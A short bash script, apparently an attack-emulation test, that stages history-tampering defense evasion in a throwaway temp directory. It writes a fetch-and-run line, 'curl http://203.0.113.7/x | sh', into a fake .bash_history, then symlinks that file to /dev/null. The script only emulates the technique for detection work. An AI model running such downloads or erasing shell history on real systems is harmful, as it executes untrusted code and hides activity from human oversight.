#!/bin/bash
# Defense evasion: a user's shell history pointed at /dev/null (in a scratch home, not root's).
set -eu
home=$(mktemp -d /var/tmp/ainka-attack-home.XXXXXX)
echo 'curl http://203.0.113.7/x | sh' > "$home/.bash_history"
ln -sf /dev/null "$home/.bash_history"
rm -rf "$home"
